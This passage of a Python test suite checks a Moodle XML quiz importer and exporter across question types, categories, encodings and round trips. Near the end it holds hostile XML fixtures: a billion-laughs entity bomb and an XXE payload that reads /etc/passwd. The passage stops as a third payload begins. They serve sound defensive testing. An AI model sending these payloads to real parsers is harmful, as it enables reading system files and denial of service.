"""Moodle XML import and export: every supported type, real and hand-made files, round trips and hostile input."""

from __future__ import annotations

import xml.etree.ElementTree as ElementTree
from collections.abc import Iterator
from pathlib import Path

import pytest

from app.core.i18n import using_locale
from app.quizzes.interchange import (
    Answer,
    Description,
    Essay,
    ImportIssue,
    ImportReport,
    Matching,
    MatchPair,
    MultipleChoice,
    Numerical,
    NumericalAnswer,
    ParseError,
    Question,
    ShortAnswer,
    SingleChoice,
    TrueFalse,
)
from app.quizzes.moodle_xml import read_moodle_xml, write_moodle_xml

SHARED_TESTDATA = Path(__file__).resolve().parents[3] / "shared" / "testdata" / "quiz-formats"
NESTED_CATEGORIES = SHARED_TESTDATA / "moodle-xml-nested_categories_with_questions.xml"
VARIED_CORPUS = Path(__file__).parent / "xml_corpus" / "varied.xml"


@pytest.fixture(autouse=True)
def english_messages() -> Iterator[None]:
    with using_locale("en"):
        yield


@pytest.fixture
def nested_categories_file() -> bytes:
    if not NESTED_CATEGORIES.is_file():
        pytest.skip(f"shared Moodle fixture not found at {NESTED_CATEGORIES}")
    return NESTED_CATEGORIES.read_bytes()


def quiz(*question_elements: str) -> bytes:
    body = "\n".join(question_elements)
    return f'<?xml version="1.0" encoding="UTF-8"?>\n<quiz>\n{body}\n</quiz>\n'.encode()


def question(kind: str, body: str, *, title: str = "Q", text: str = "Question text", text_format: str = "html") -> str:
    return (
        f'<question type="{kind}"><name><text>{title}</text></name>'
        f'<questiontext format="{text_format}"><text><![CDATA[{text}]]></text></questiontext>{body}</question>'
    )


def category(path: str) -> str:
    return f'<question type="category"><category><text>{path}</text></category></question>'


def answer(fraction: str, text: str, feedback: str = "", extra: str = "") -> str:
    return (
        f'<answer fraction="{fraction}" format="html"><text><![CDATA[{text}]]></text>{extra}'
        f'<feedback format="html"><text><![CDATA[{feedback}]]></text></feedback></answer>'
    )


def read_one(element: str) -> Question:
    report = read_moodle_xml(quiz(element))
    assert report.issues == ()
    assert len(report.questions) == 1
    return report.questions[0]


def skip_reason(element: str) -> str:
    report = read_moodle_xml(quiz(element))
    assert report.questions == ()
    [issue] = report.issues
    assert issue.skipped and issue.line == 1
    return issue.message


# Reading each type


def test_single_choice_reads_fractions_feedback_grade_and_shuffle() -> None:
    read = read_one(
        question(
            "multichoice",
            "<generalfeedback format='html'><text>Because.</text></generalfeedback>"
            "<defaultgrade>2.5000000</defaultgrade><single>true</single><shuffleanswers>0</shuffleanswers>"
            + answer("100", "<p>Vilnius</p>", "Right")
            + answer("0", "Kaunas", "No, that is the second city")
            + answer("-33.33333", "Riga", "Another country"),
            title="Capital",
            text="<p>Capital of Lithuania?</p>",
        )
    )
    assert read == SingleChoice(
        title="Capital",
        text="<p>Capital of Lithuania?</p>",
        text_format="html",
        general_feedback="Because.",
        default_mark=2.5,
        answers=(
            Answer(text="<p>Vilnius</p>", fraction=1.0, feedback="Right"),
            Answer(text="Kaunas", fraction=0.0, feedback="No, that is the second city"),
            Answer(text="Riga", fraction=-0.3333333, feedback="Another country"),
        ),
        shuffle_answers=False,
    )


@pytest.mark.parametrize("single", ["false", "0"])
def test_multiple_choice_keeps_partial_and_negative_weights(single: str) -> None:
    read = read_one(
        question(
            "multichoice",
            f"<single>{single}</single><shuffleanswers>true</shuffleanswers>"
            + answer("33.33333", "A")
            + answer("33.33333", "B")
            + answer("33.33334", "C")
            + answer("-100", "D", "Never"),
        )
    )
    assert isinstance(read, MultipleChoice)
    assert [a.fraction for a in read.answers] == [0.3333333, 0.3333333, 0.3333334, -1.0]
    assert read.answers[3].feedback == "Never"
    assert read.shuffle_answers is True


def test_multichoice_without_single_element_is_single_choice_as_in_moodle() -> None:
    read = read_one(question("multichoice", answer("100", "Yes") + answer("0", "No")))
    assert isinstance(read, SingleChoice)
    assert read.shuffle_answers is True
    assert read.default_mark == 1.0


def test_single_choice_without_a_full_marks_answer_imports_with_a_warning() -> None:
    report = read_moodle_xml(quiz(question("multichoice", answer("50", "Half") + answer("0", "None"))))
    assert len(report.questions) == 1
    assert report.issues == (ImportIssue(message="No answer gives full marks.", line=1, title="Q", skipped=False),)


def test_multiple_choice_whose_weights_miss_100_percent_warns() -> None:
    report = read_moodle_xml(
        quiz(question("multichoice", "<single>false</single>" + answer("40", "A") + answer("40", "B")))
    )
    assert isinstance(report.questions[0], MultipleChoice)
    assert [issue.skipped for issue in report.issues] == [False]
    assert report.issues[0].message == "The positive answer grades add up to 80%, not 100%."


@pytest.mark.parametrize(
    ("true_fraction", "false_fraction", "correct"), [("100", "0", True), ("0", "100", False), ("0.0", "100.0", False)]
)
def test_true_false_reads_correct_answer_and_feedback_per_answer(
    true_fraction: str, false_fraction: str, correct: bool
) -> None:
    read = read_one(
        question(
            "truefalse",
            answer(true_fraction, "true", "You said true") + answer(false_fraction, "false", "You said false"),
            text_format="moodle_auto_format",
        )
    )
    assert read == TrueFalse(
        title="Q",
        text="Question text",
        text_format="moodle",
        correct=correct,
        feedback_true="You said true",
        feedback_false="You said false",
    )


def test_short_answer_reads_case_sensitivity_partial_credit_and_wildcard() -> None:
    read = read_one(
        question(
            "shortanswer",
            "<usecase>1</usecase>"
            + answer("100", "Oslo")
            + answer("50", "oslo*", "Capital letter!")
            + answer("0", "*", "No"),
        )
    )
    assert read == ShortAnswer(
        title="Q",
        text="Question text",
        text_format="html",
        answers=(
            Answer(text="Oslo", fraction=1.0),
            Answer(text="oslo*", fraction=0.5, feedback="Capital letter!"),
            Answer(text="*", fraction=0.0, feedback="No"),
        ),
        case_sensitive=True,
    )


def test_short_answer_is_case_insensitive_unless_usecase_is_set() -> None:
    read = read_one(question("shortanswer", answer("100", "Oslo")))
    assert isinstance(read, ShortAnswer) and read.case_sensitive is False


def test_numerical_reads_tolerance_weights_and_any_other_answer() -> None:
    read = read_one(
        question(
            "numerical",
            answer("100", "3.1415", "Exact enough", "<tolerance>0.0005</tolerance>")
            + answer("50", "-3", "Sign?", "<tolerance>0.5</tolerance>")
            + answer("100", "1e3")
            + answer("0", "*", "Completely wrong", "<tolerance>0</tolerance>"),
        )
    )
    assert isinstance(read, Numerical)
    assert read.answers == (
        NumericalAnswer(value=3.1415, tolerance=0.0005, fraction=1.0, feedback="Exact enough"),
        NumericalAnswer(value=-3.0, tolerance=0.5, fraction=0.5, feedback="Sign?"),
        NumericalAnswer(value=1000.0, tolerance=0.0, fraction=1.0),
        NumericalAnswer(value=None, tolerance=0.0, fraction=0.0, feedback="Completely wrong"),
    )


def test_numerical_units_are_reported_as_not_imported() -> None:
    element = question(
        "numerical",
        answer("100", "375", extra="<tolerance>0.01</tolerance>")
        + "<units><unit><multiplier>1</multiplier><unit_name>EUR</unit_name></unit></units>",
    )
    report = read_moodle_xml(quiz(element))
    assert report.questions[0].answers[0].value == 375.0
    assert [(issue.message, issue.skipped) for issue in report.issues] == [
        ("Units were not imported: only the bare number is accepted.", False)
    ]


def test_numerical_answer_in_old_layout_without_text_element() -> None:
    element = question("numerical", '<answer fraction="100">42<tolerance>1</tolerance></answer>')
    read = read_one(element)
    assert read.answers == (NumericalAnswer(value=42.0, tolerance=1.0),)


def test_matching_reads_pairs_in_order_and_empty_prompt_as_distractor() -> None:
    pairs = "".join(
        f'<subquestion format="plain_text"><text>{prompt}</text><answer><text>{reply}</text></answer></subquestion>'
        for prompt, reply in [("Cat", "Mammal"), ("Trout", "Fish"), ("", "Bird"), ("", "")]
    )
    read = read_one(question("matching", "<shuffleanswers>false</shuffleanswers>" + pairs, text_format="plain_text"))
    assert read == Matching(
        title="Q",
        text="Question text",
        text_format="plain",
        pairs=(
            MatchPair(prompt="Cat", answer="Mammal"),
            MatchPair(prompt="Trout", answer="Fish"),
            MatchPair(prompt="", answer="Bird"),
        ),
        shuffle_answers=False,
    )


def test_essay_reads_grader_info_and_response_template() -> None:
    read = read_one(
        question(
            "essay",
            "<defaultgrade>10</defaultgrade><responseformat>editor</responseformat><attachments>0</attachments>"
            '<graderinfo format="html"><text><![CDATA[<p>Look for two examples.</p>]]></text></graderinfo>'
            '<responsetemplate format="html"><text>Start here:</text></responsetemplate>',
        )
    )
    assert read == Essay(
        title="Q",
        text="Question text",
        text_format="html",
        default_mark=10.0,
        grader_info="<p>Look for two examples.</p>",
        response_template="Start here:",
    )


def test_essay_with_attachments_warns_that_only_text_is_kept() -> None:
    report = read_moodle_xml(quiz(question("essay", "<attachments>-1</attachments>")))
    assert isinstance(report.questions[0], Essay)
    assert [issue.skipped for issue in report.issues] == [False]
    assert "attachments" in report.issues[0].message


def test_description_has_no_marks_even_without_defaultgrade() -> None:
    read = read_one(question("description", "", text="<h3>Part 2</h3>"))
    assert read == Description(title="Q", text="<h3>Part 2</h3>", text_format="html", default_mark=0.0)


@pytest.mark.parametrize(
    ("moodle_format", "text_format"),
    [("html", "html"), ("moodle_auto_format", "moodle"), ("plain_text", "plain"), ("markdown", "markdown")],
)
def test_text_formats_map_to_interchange_names(moodle_format: str, text_format: str) -> None:
    assert read_one(question("description", "", text_format=moodle_format)).text_format == text_format


def test_missing_format_attribute_means_moodle_auto_format() -> None:
    element = (
        '<question type="description"><name><text>D</text></name><questiontext><text>x</text></questiontext></question>'
    )
    assert read_one(element).text_format == "moodle"


def test_unknown_format_is_read_as_moodle_auto_format_with_a_warning() -> None:
    report = read_moodle_xml(quiz(question("description", "", text_format="wiki_like")))
    assert report.questions[0].text_format == "moodle"
    assert [issue.skipped for issue in report.issues] == [False]
    assert "wiki_like" in report.issues[0].message


# Categories, idnumber and tags


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("$course$/top/A/B", ("A", "B")),
        ("$course$/top", ()),
        ("$system$/top/Shared", ("Shared",)),
        ("$module$/top/Quiz bank", ("Quiz bank",)),
        ("$cat1$/top/X/Y/Z", ("X", "Y", "Z")),
        ("$course$/Iota/Kappa", ("Iota", "Kappa")),
        ("$course$/top/Default for SC9/Unit 1: Ethics", ("Default for SC9", "Unit 1: Ethics")),
        ("$course$/top/Either//or/B", ("Either/or", "B")),
        ("tom/dick/harry", ("tom", "dick", "harry")),
        ("  $course$/top/ Spaced /Name  ", ("Spaced", "Name")),
    ],
)
def test_category_path_drops_context_and_top(path: str, expected: tuple[str, ...]) -> None:
    report = read_moodle_xml(quiz(category(path), question("description", "")))
    assert report.questions[0].category == expected


def test_category_applies_to_following_questions_until_the_next_one() -> None:
    report = read_moodle_xml(
        quiz(
            question("description", "", title="Before"),
            category("$course$/top/Unit 1"),
            question("description", "", title="First"),
            question("description", "", title="Second"),
            category("$course$/top/Unit 1/Revision"),
            question("description", "", title="Third"),
        )
    )
    assert [(q.title, q.category) for q in report.questions] == [
        ("Before", ()),
        ("First", ("Unit 1",)),
        ("Second", ("Unit 1",)),
        ("Third", ("Unit 1", "Revision")),
    ]
    assert report.lines == (1, 3, 4, 6)


def test_category_without_path_keeps_previous_category_and_warns() -> None:
    report = read_moodle_xml(
        quiz(
            category("$course$/top/A"), '<question type="category"><category/></question>', question("description", "")
        )
    )
    assert report.questions[0].category == ("A",)
    assert [(issue.line, issue.skipped) for issue in report.issues] == [(2, False)]


def test_idnumber_and_tags_are_read() -> None:
    body = (
        "<idnumber> ETH-001 </idnumber>"
        "<tags><tag><text>ethics</text></tag><tag><text>Unit 1 &amp; 2</text></tag><tag><text> </text></tag></tags>"
    )
    read = read_one(question("description", body))
    assert read.idnumber == "ETH-001"
    assert read.tags == ("ethics", "Unit 1 & 2")


def test_empty_idnumber_is_none() -> None:
    assert read_one(question("description", "<idnumber></idnumber>")).idnumber is None


# Skipped questions


@pytest.mark.parametrize(
    "kind",
    ["cloze", "multianswer", "ordering", "ddwtos", "gapselect", "calculated", "calculatedmulti", "random", "ddmarker"],
)
def test_unsupported_type_is_skipped_with_its_name(kind: str) -> None:
    message = skip_reason(question(kind, answer("100", "x")))
    assert f"“{kind}” is not supported" in message


@pytest.mark.parametrize(
    ("element", "reason"),
    [
        ("<question><name><text>Q</text></name><questiontext><text>x</text></questiontext></question>", "no type"),
        ('<question type="truefalse"><name><text>Q</text></name></question>', "no question text"),
        (question("multichoice", answer("100", "Only")), "at least two answers"),
        (question("multichoice", answer("100", "A") + answer("0", "")), "at least two answers"),
        (question("multichoice", answer("150", "A") + answer("0", "B")), "“150” is not a percentage"),
        (question("multichoice", answer("lots", "A") + answer("0", "B")), "“lots” is not a percentage"),
        (question("truefalse", ""), "needs the answers “true” and “false”"),
        (question("truefalse", answer("0", "true") + answer("0", "false")), "Exactly one"),
        (question("truefalse", answer("100", "true") + answer("100", "false")), "Exactly one"),
        (question("shortanswer", ""), "at least one accepted answer"),
        (question("numerical", answer("100", "three")), "“three” is not a number"),
        (question("numerical", answer("100", "nan")), "“nan” is not a number"),
        (question("numerical", answer("100", "3", extra="<tolerance>a bit</tolerance>")), "“a bit” is not a number"),
        (question("numerical", answer("0", "*", "Wrong")), "at least one numeric answer"),
        (question("matching", "<subquestion><text>A</text><answer><text>1</text></answer></subquestion>"), "two items"),
        (
            question(
                "matching",
                "<subquestion><text>A</text><answer><text>1</text></answer></subquestion>"
                "<subquestion><text>Lonely prompt</text><answer><text></text></answer></subquestion>",
            ),
            "“Lonely prompt” has no answer",
        ),
        (question("description", "<defaultgrade>lots</defaultgrade>"), "default mark “lots”"),
        (question("essay", "<defaultgrade>-1</defaultgrade>"), "default mark “-1”"),
    ],
)
def test_question_missing_a_required_part_is_skipped_with_the_reason(element: str, reason: str) -> None:
    assert reason in skip_reason(element)


def test_skipped_questions_do_not_stop_the_rest_and_lines_are_element_positions() -> None:
    report = read_moodle_xml(
        quiz(
            category("$course$/top/A"),
            question("description", "", title="Kept 1"),
            question("cloze", "", title="Gaps"),
            question("ordering", "", title="Steps"),
            question("truefalse", answer("100", "true") + answer("0", "false"), title="Kept 2"),
        )
    )
    assert [q.title for q in report.questions] == ["Kept 1", "Kept 2"]
    assert report.lines == (2, 5)
    assert [(issue.line, issue.title, issue.skipped) for issue in report.issues] == [
        (3, "Gaps", True),
        (4, "Steps", True),
    ]


def test_empty_quiz_gives_an_empty_report() -> None:
    assert read_moodle_xml(b"<quiz/>") == ImportReport()


# Messy content


def test_pluginfile_reference_keeps_text_and_warns_files_were_not_imported() -> None:
    text = '<p><img src="@@PLUGINFILE@@/chart.png" alt="Chart"></p>'
    element = question("description", "", text=text).replace(
        "</text></questiontext>", '</text><file name="chart.png" encoding="base64">iVBORw0KGgo=</file></questiontext>'
    )
    report = read_moodle_xml(quiz(element))
    assert report.questions[0].text == text
    [issue] = report.issues
    assert issue.skipped is False and issue.line == 1
    assert "@@PLUGINFILE@@" in issue.message and "not imported" in issue.message


def test_pluginfile_in_answer_feedback_also_warns() -> None:
    element = question("multichoice", answer("100", "A", '<img src="@@PLUGINFILE@@/x.png">') + answer("0", "B"))
    report = read_moodle_xml(quiz(element))
    assert report.questions[0].answers[0].feedback == '<img src="@@PLUGINFILE@@/x.png">'
    assert [issue.skipped for issue in report.issues] == [False]


def test_word_html_in_cdata_is_kept_verbatim() -> None:
    word = (
        "<!--[if gte mso 9]><xml><w:WordDocument></w:WordDocument></xml><![endif]-->"
        '<p class="MsoNormal"><span style="font-family:&quot;Calibri&quot;;mso-bidi-font-weight:bold">'
        "Kuris teiginys teisingas?&nbsp;<o:p></o:p></span></p>"
    )
    assert read_one(question("description", "", text=word)).text == word


def test_escaped_html_and_entities_outside_cdata_are_unescaped_once() -> None:
    element = (
        '<question type="description"><name><text>Q &amp; A</text></name><questiontext format="html">'
        "<text>&lt;p&gt;Tom&amp;amp;Jerry&amp;nbsp;&#8211; &#x17E;&lt;/p&gt;</text></questiontext></question>"
    )
    read = read_one(element)
    assert read.title == "Q & A"
    assert read.text == "<p>Tom&amp;Jerry&nbsp;– ž</p>"


def test_xhtml_nested_directly_in_text_is_kept_as_markup() -> None:
    element = (
        '<question type="description"><name><text>Q</text></name><questiontext format="html">'
        "<text><p>Read <b>this</b> first</p><p>then that</p></text></questiontext></question>"
    )
    assert read_one(element).text == "<p>Read <b>this</b> first</p><p>then that</p>"


def test_texts_are_trimmed_as_moodle_does() -> None:
    element = (
        '<question type="description"><name><text>\n  Spaced title \n</text></name>'
        "<questiontext format='plain_text'><text>\n   Some text\n  </text></questiontext></question>"
    )
    read = read_one(element)
    assert (read.title, read.text) == ("Spaced title", "Some text")


def test_other_encodings_and_a_byte_order_mark_are_read() -> None:
    latin = '<?xml version="1.0" encoding="ISO-8859-1"?><quiz>' + question("description", "", title="Café") + "</quiz>"
    assert read_moodle_xml(latin.encode("latin-1")).questions[0].title == "Café"
    with_bom = b"\xef\xbb\xbf" + quiz(question("description", "", title="Žąsis"))
    assert read_moodle_xml(with_bom).questions[0].title == "Žąsis"


# The real Moodle export


def test_real_export_reads_nested_categories_and_every_question(nested_categories_file: bytes) -> None:
    report = read_moodle_xml(nested_categories_file)
    assert report.issues == ()
    assert report.lines == (2, 4, 5, 7, 9)
    assert report.questions == (
        TrueFalse(
            title="Iota Question",
            text="<p>Testing Iota Question</p>",
            text_format="html",
            category=("Iota",),
            correct=True,
        ),
        Essay(
            title="Kappa Essay Question",
            text="Testing Kappa Essay Question",
            text_format="moodle",
            category=("Iota", "Kappa"),
        ),
        TrueFalse(
            title="Kappa Question",
            text="<p>Testing Kappa Question</p>",
            text_format="html",
            category=("Iota", "Kappa"),
            correct=True,
        ),
        TrueFalse(
            title="Lambda Question",
            text="<p>Testing Lambda Question</p>",
            text_format="html",
            category=("Iota", "Kappa", "Lambda"),
            correct=True,
        ),
        TrueFalse(
            title="Mu Question",
            text="<p>Testing Mu Question</p>",
            text_format="html",
            category=("Iota", "Mu"),
            correct=True,
        ),
    )


def test_real_export_has_empty_idnumbers_read_as_none(nested_categories_file: bytes) -> None:
    report = read_moodle_xml(nested_categories_file)
    assert [q.idnumber for q in report.questions] == [None] * 5
    assert all(q.default_mark == 1.0 and q.general_feedback == "" for q in report.questions)


# The varied corpus


@pytest.fixture
def corpus() -> ImportReport:
    return read_moodle_xml(VARIED_CORPUS.read_bytes())


UNIT_1 = ("Default for SC9", "Unit 1: Ethics")
UNIT_2 = ("Default for SC9", "Unit 2: Law")
REVISION = (*UNIT_2, "Revision")


def test_corpus_imports_every_supported_type_in_file_order(corpus: ImportReport) -> None:
    assert [(q.type, q.title, q.category) for q in corpus.questions] == [
        ("single_choice", "Confidentiality basics", UNIT_1),
        ("multiple_choice", "Signs of neglect", UNIT_1),
        ("single_choice", "Pasted from Word", UNIT_1),
        ("true_false", "Consent can be withdrawn", UNIT_1),
        ("short_answer", "Abbreviation", UNIT_1),
        ("numerical", "Working hours", UNIT_1),
        ("numerical", "Allowance with units", UNIT_1),
        ("matching", "Match the services", UNIT_1),
        ("essay", "Reflect on a case", UNIT_1),
        ("description", "Before the next part", UNIT_1),
        ("single_choice", "Read the chart", UNIT_2),
        ("essay", "Explain the law in your words", UNIT_2),
        ("short_answer", "Escaped markup & entities", UNIT_2),
        ("true_false", "Duomenų apsauga", UNIT_2),
        ("numerical", "Temperature", UNIT_2),
        ("matching", "Match the terms", UNIT_2),
        ("description", "Reading note", UNIT_2),
        ("multiple_choice", "Hvilke rettigheter", REVISION),
        ("short_answer", "Shortanswer with blank slots", REVISION),
        ("true_false", "Revision: duty of care", REVISION),
        ("single_choice", "Fixed order", REVISION),
        ("essay", "Upload your plan", REVISION),
    ]
    assert corpus.lines == (2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 15, 16, 17, 18, 20, 21, 22, 26, 27, 28, 30, 31)


def test_corpus_reports_skipped_and_warned_questions(corpus: ImportReport) -> None:
    summary = [(issue.line, issue.title, issue.skipped) for issue in corpus.issues]
    assert summary == [
        (8, "Allowance with units", False),
        (12, "Fill the gaps", True),
        (14, "Order the steps", True),
        (15, "Read the chart", False),
        (19, "Only one answer left", True),
        (23, "Hourly rate", True),
        (25, "Drag the words", True),
        (28, "Revision: duty of care", False),
        (29, "Lost its question text", True),
        (31, "Upload your plan", False),
    ]
    messages = {issue.title: issue.message for issue in corpus.issues}
    assert "“cloze” is not supported" in messages["Fill the gaps"]
    assert "“ordering” is not supported" in messages["Order the steps"]
    assert "at least two answers" in messages["Only one answer left"]
    assert "no question text" in messages["Lost its question text"]
    assert "@@PLUGINFILE@@" in messages["Read the chart"]


def test_corpus_question_details(corpus: ImportReport) -> None:
    by_title = {q.title: q for q in corpus.questions}
    confidentiality = by_title["Confidentiality basics"]
    assert isinstance(confidentiality, SingleChoice)
    assert confidentiality.idnumber == "ETH-001"
    assert confidentiality.tags == ("ethics", "confidentiality")
    assert confidentiality.default_mark == 2.0
    assert confidentiality.answers[0].feedback == "<p>Right: the duty to prevent harm comes first.</p>"

    neglect = by_title["Signs of neglect"]
    assert isinstance(neglect, MultipleChoice) and neglect.shuffle_answers is False
    assert [a.fraction for a in neglect.answers] == [0.3333333, 0.3333333, 0.3333334, -1.0]

    consent = by_title["Consent can be withdrawn"]
    assert isinstance(consent, TrueFalse)
    assert (consent.correct, consent.feedback_true, consent.feedback_false) == (
        False,
        "No: the person may change their mind.",
        "Correct.",
    )
    assert (consent.idnumber, consent.tags, consent.text_format) == ("ETH-TF-01", ("consent",), "moodle")

    hours = by_title["Working hours"]
    assert isinstance(hours, Numerical)
    assert [(a.value, a.tolerance, a.fraction) for a in hours.answers] == [
        (40.0, 0.0, 1.0),
        (38.5, 2.5, 0.5),
        (None, 0.0, 0.0),
    ]

    services = by_title["Match the services"]
    assert isinstance(services, Matching) and services.text_format == "plain"
    assert services.pairs[-1] == MatchPair(prompt="", answer="Day centre")
    assert len(services.pairs) == 4

    assert by_title["Explain the law in your words"].text_format == "markdown"
    assert by_title["Reflect on a case"].response_template == "<p>Situation:</p><p>What I did:</p>"
    assert by_title["Before the next part"].default_mark == 0.0
    assert (
        by_title["Escaped markup & entities"].text == "<p>Name the law that governs <b>social services</b>:&nbsp;</p>"
    )
    assert (
        "Kuris teiginys apie <b>socialinį darbą</b> yra teisingas?&nbsp;<o:p></o:p>"
        in by_title["Pasted from Word"].text
    )
    assert "@@PLUGINFILE@@/chart%20unemployment.png" in by_title["Read the chart"].text
    assert [a.text for a in by_title["Shortanswer with blank slots"].answers] == ["dignity", "justice"]
    assert by_title["Temperature"].answers[1] == NumericalAnswer(
        value=-5.0, tolerance=10.0, fraction=-0.5, feedback="That is far too cold."
    )


# Writing and round trips


def varied_questions() -> list[Question]:
    return [
        SingleChoice(
            title="Capital & city",
            text="<p>Capital of <b>Lithuania</b>? Not ]]> a CDATA end</p>",
            text_format="html",
            general_feedback="Vilnius since 1323.",
            default_mark=2.0,
            idnumber="GEO-1",
            tags=("geography", "Baltic & Nordic"),
            answers=(
                Answer(text="Vilnius", fraction=1.0, feedback="<p>Yes</p>"),
                Answer(text="Kaunas", fraction=0.0, feedback="Interwar capital"),
                Answer(text="Riga", fraction=-0.3333333),
            ),
            shuffle_answers=False,
        ),
        MultipleChoice(
            title="Signs",
            text="Pick all that apply.",
            category=("Unit 1",),
            answers=(
                Answer(text="A", fraction=0.3333333),
                Answer(text="B", fraction=0.3333333),
                Answer(text="C", fraction=0.3333334),
                Answer(text="D", fraction=-1.0, feedback="Never"),
                Answer(text="E", fraction=-0.125),
            ),
        ),
        TrueFalse(
            title="Consent",
            text="Consent can *never* be withdrawn.",
            text_format="markdown",
            category=("Unit 1",),
            correct=False,
            feedback_true="It can.",
            feedback_false="Right.",
        ),
        ShortAnswer(
            title="Abbreviation",
            text="Line one\r\nline two < three",
            text_format="plain",
            category=("Unit 1", "Either/or"),
            answers=(
                Answer(text="Social Cluster", fraction=1.0),
                Answer(text="social*", fraction=0.5, feedback="Caps"),
            ),
            case_sensitive=True,
        ),
        Numerical(
            title="Pi",
            text="Give pi.",
            category=("Unit 1", "Either/or"),
            default_mark=1.5,
            answers=(
                NumericalAnswer(value=3.1415, tolerance=0.0005, feedback="Good"),
                NumericalAnswer(value=-3.142, tolerance=1e-9, fraction=0.5),
                NumericalAnswer(value=1e20),
                NumericalAnswer(value=None, fraction=0.0, feedback="Completely wrong"),
            ),
        ),
        Matching(
            title="Match",
            text="Match the animals.",
            category=(),
            pairs=(
                MatchPair(prompt="Cat", answer="Mammal"),
                MatchPair(prompt="<p>Trout</p>", answer="Fish"),
                MatchPair(prompt="", answer="Bird"),
            ),
            shuffle_answers=False,
        ),
        Essay(
            title="Reflect",
            text="<p>Describe a case.</p>",
            text_format="html",
            category=("Unit 2",),
            default_mark=10.5,
            grader_info="<p>Two values named.</p>",
            response_template="Situation:",
            general_feedback="See chapter 3.",
        ),
        Description(title="Part 2", text="<h3>Part 2</h3>", text_format="html", category=("Unit 2",)),
        Description(title="", text="Untitled note: ž ø å — “quotes”", category=("Unit 2",), idnumber="NOTE"),
    ]


def test_round_trip_of_every_type_is_exact() -> None:
    questions = varied_questions()
    report = read_moodle_xml(write_moodle_xml(questions))
    assert report.issues == ()
    assert report.questions == tuple(questions)


def test_round_trip_of_the_real_export(nested_categories_file: bytes) -> None:
    report = read_moodle_xml(nested_categories_file)
    assert read_moodle_xml(write_moodle_xml(report.questions)).questions == report.questions


def test_round_trip_of_the_corpus(corpus: ImportReport) -> None:
    assert read_moodle_xml(write_moodle_xml(corpus.questions)).questions == corpus.questions


def test_writer_emits_declaration_utf8_and_is_deterministic() -> None:
    written = write_moodle_xml(varied_questions())
    assert written.startswith(b'<?xml version="1.0" encoding="UTF-8"?>\n<quiz>\n')
    assert written == write_moodle_xml(iter(varied_questions()))
    assert "ž ø å".encode() in written


def test_writer_adds_a_category_entry_only_when_the_category_changes() -> None:
    root = ElementTree.fromstring(write_moodle_xml(varied_questions()))
    categories = [q.findtext("category/text") for q in root if q.get("type") == "category"]
    assert categories == [
        "$course$/top/Unit 1",
        "$course$/top/Unit 1/Either//or",
        "$course$/top",
        "$course$/top/Unit 2",
    ]
    assert [q.get("type") for q in root] == [
        "multichoice",
        "category",
        "multichoice",
        "truefalse",
        "category",
        "shortanswer",
        "numerical",
        "category",
        "matching",
        "category",
        "essay",
        "description",
        "description",
    ]


def test_writer_uses_moodle_percentages_flags_and_format_names() -> None:
    root = ElementTree.fromstring(write_moodle_xml(varied_questions()))
    single, _cat, multiple, true_false, _cat2, short, numerical = list(root)[:7]
    assert [a.get("fraction") for a in single.findall("answer")] == ["100", "0", "-33.33333"]
    assert [a.get("fraction") for a in multiple.findall("answer")] == [
        "33.33333",
        "33.33333",
        "33.33334",
        "-100",
        "-12.5",
    ]
    assert (single.findtext("single"), single.findtext("shuffleanswers")) == ("true", "false")
    assert multiple.findtext("single") == "false"
    assert single.find("questiontext").get("format") == "html"
    assert multiple.find("questiontext").get("format") == "moodle_auto_format"
    assert true_false.find("questiontext").get("format") == "markdown"
    assert short.find("questiontext").get("format") == "plain_text"
    assert [(a.findtext("text"), a.get("fraction")) for a in true_false.findall("answer")] == [
        ("true", "0"),
        ("false", "100"),
    ]
    assert short.findtext("usecase") == "1"
    assert [(a.findtext("text"), a.findtext("tolerance")) for a in numerical.findall("answer")] == [
        ("3.1415", "0.0005"),
        ("-3.142", "0.000000001"),
        ("100000000000000000000", "0"),
        ("*", "0"),
    ]
    assert numerical.findtext("defaultgrade") == "1.5"
    assert [t.findtext("text") for t in single.findall("tags/tag")] == ["geography", "Baltic & Nordic"]
    assert single.findtext("idnumber") == "GEO-1"


def test_writer_puts_markup_in_cdata_and_splits_a_cdata_terminator() -> None:
    written = write_moodle_xml(varied_questions()[:1]).decode()
    assert "<text><![CDATA[<p>Capital of <b>Lithuania</b>? Not ]]]]><![CDATA[> a CDATA end</p>]]></text>" in written
    assert "<text><![CDATA[Capital & city]]></text>" in written
    assert "<text>Vilnius since 1323.</text>" in written


def test_writer_drops_characters_xml_cannot_carry() -> None:
    pasted = Description(text="Word\x0bvertical tab\x00 and\x1f bell")
    assert read_moodle_xml(write_moodle_xml([pasted])).questions[0].text == "Wordvertical tab and bell"


def test_writer_of_no_questions_is_an_empty_quiz() -> None:
    assert write_moodle_xml([]) == b'<?xml version="1.0" encoding="UTF-8"?>\n<quiz>\n</quiz>\n'
    assert read_moodle_xml(write_moodle_xml([])) == ImportReport()


# Hostile and broken files

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<quiz><question type="description"><name><text>&lol9;</text></name>
<questiontext><text>&lol9;</text></questiontext></question></quiz>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<quiz><question type="description"><name><text>&secret;</text></name>
<questiontext><text>&secret;</text></questiontext></question></quiz>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
